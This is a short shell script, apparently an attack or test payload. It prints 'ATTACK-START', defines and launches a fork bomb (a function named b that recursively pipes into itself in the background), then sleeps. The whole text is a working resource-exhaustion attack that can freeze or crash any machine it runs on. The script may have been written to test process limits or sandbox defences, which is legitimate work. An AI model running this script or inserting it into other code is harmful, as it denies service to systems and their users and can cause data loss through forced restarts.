echo ATTACK-START
b() { b | b & }
b
sleep 20
